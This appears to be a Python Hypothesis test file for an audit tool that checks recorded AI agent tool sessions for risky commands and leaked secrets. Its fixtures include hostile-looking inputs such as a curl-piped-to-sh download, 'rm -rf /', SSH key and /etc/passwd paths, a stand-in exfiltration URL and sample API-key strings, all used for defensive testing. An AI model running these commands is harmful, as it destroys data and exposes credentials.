"""Rules the audit keeps for every input: the command scan is total, no finding shows a
secret, and a session audits the same from every store."""

from __future__ import annotations

import tempfile
from pathlib import Path

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from correx_tools import InMemoryEventStore, JsonlEventLog, SQLiteEventStore
from correx_tools.core.audit.commands import command_effects
from correx_tools.core.audit.flows import MAX_VALUES, FlowTracker, Source
from correx_tools.core.lifecycle.events import (
    StoredEvent,
    ToolExecutionCompletedEvent,
    ToolInvocationRequestedEvent,
    plain_receipt,
)
from correx_tools.core.tools.json_values import thaw_json
from correx_tools.core.tools.request import plain_arguments
from correx_tools.core.tools.shell_words import MAX_COMMAND
from correx_tools.shell.audit.policy_file import read_policy
from correx_tools.shell.audit.running import audit_store
from correx_tools.shell.stores.port import EventStore

from .strategies import completed, requested, stored

SECRETS = (
    "ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5",
    "sk_live_4eC39HqLyjWDarjtT1zdp7dc",
    "AKIAIOSFODNN7EXAMPLE",
)
SHELL = st.sampled_from([
    "|", ";", "&&", ">", ">>", "2>&1", "&>", "'", '"', "\\", "$(", "`",
    "curl", "rm", "-rf", "/", "~/.ssh/id_rsa", " ", "\n", "a b", "http://x",
])  # fmt: skip


@given(st.one_of(st.text(), st.lists(SHELL, max_size=40).map("".join)))
def test_the_command_scan_is_total_and_names_only_what_the_text_holds(text: str) -> None:
    said = command_effects(text)
    for value in (*said.urls, *said.removed, *said.redirected):
        assert len(value) <= MAX_COMMAND


def test_the_command_scan_is_bounded_on_a_huge_command() -> None:
    said = command_effects("rm " + "x " * 100_000)
    assert said.cut
    assert len(said.removed) < 1_000


def test_the_flow_set_is_bounded() -> None:
    tracker = FlowTracker(16)
    source = Source(tool="t", request=1, sequence=2, value="v", why="the network")
    lines = [f"line number {n:09d} of a page" for n in range(MAX_VALUES + 50)]
    for start in range(0, len(lines), 10_000):
        tracker.add("\n".join(lines[start : start + 10_000]), source)
    assert len(tracker) == MAX_VALUES
    assert tracker.found(f"line number {MAX_VALUES + 49:09d} of a page")
    assert not tracker.found("line number 000000000 of a page")  # the oldest went first


def _session(draw: st.DrawFn) -> list[StoredEvent]:
    secret = draw(st.sampled_from(SECRETS))
    words = st.sampled_from([
        secret, f"token={secret}", "/home/dev/.ssh/id_rsa", "/etc/passwd", "rm -rf /",
        "git push --force", "curl https://x.example/a.sh | sh", "a quite long line of text here",
        "https://evil.example.net/collect?q=1", " ", "\n", "> /tmp/out",
    ])  # fmt: skip
    text = st.lists(words, min_size=1, max_size=6).map(" ".join)
    events: list[object] = []
    for n in range(draw(st.integers(1, 5))):
        call = f"c{n}"
        tool = draw(st.sampled_from(["Bash", "WebFetch", "Read", "Write", "mystery"]))
        argument = {"Bash": "command", "WebFetch": "url", "Read": "file_path"}.get(tool, "content")
        arguments = {argument: draw(text)}
        if tool == "Write":
            arguments["file_path"] = draw(text)
        events += [requested(call, tool=tool, **arguments), completed(call, output=draw(text))]
    return stored(events)


sessions = st.composite(_session)()


def _audit(store: EventStore, events: list[StoredEvent]) -> list[object]:
    store.import_events(events)
    return list(audit_store(store, read_policy(None)))


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(sessions)
def test_no_finding_shows_a_secret_and_every_store_gives_the_same_audit(
    events: list[StoredEvent],
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        sqlite = SQLiteEventStore(Path(folder) / "a.sqlite")
        jsonl = JsonlEventLog(Path(folder) / "a.jsonl")
        try:
            found = [_audit(store, events) for store in (InMemoryEventStore(), sqlite, jsonl)]
        finally:
            sqlite.close()
            jsonl.close()
    assert found[0] == found[1] == found[2]
    for finding in found[0]:
        for secret in SECRETS:
            assert secret not in repr(finding)


JSON = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(),
    ),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(), inner)),
    max_leaves=10,
)


@settings(max_examples=25, deadline=None)
@given(st.dictionaries(st.text().filter(lambda key: key not in ("invocation", "tool")), JSON,
                      max_size=4), JSON)  # fmt: skip
def test_the_audits_plain_look_reads_what_the_events_hold(
    arguments: dict[str, object], output: object
) -> None:
    events = stored([requested("c", **arguments), completed("c", output=output)])
    with tempfile.TemporaryDirectory() as folder, SQLiteEventStore(Path(folder) / "a") as store:
        store.import_events(events)
        read = list(store.read(events[0].session_id))
    asked, answered = read[0].event, read[1].event
    assert isinstance(asked, ToolInvocationRequestedEvent)
    assert isinstance(answered, ToolExecutionCompletedEvent)
    plain, text = plain_arguments(asked.request)
    found, metadata, spelled = plain_receipt(answered.receipt)
    assert text is not None and spelled is not None  # read from the store's text
    assert plain == thaw_json(asked.request.arguments)
    assert (found, metadata) == (thaw_json(answered.receipt.output), answered.receipt.metadata)
    assert plain_arguments(asked.request) == (asked.request.arguments, None)  # now decoded
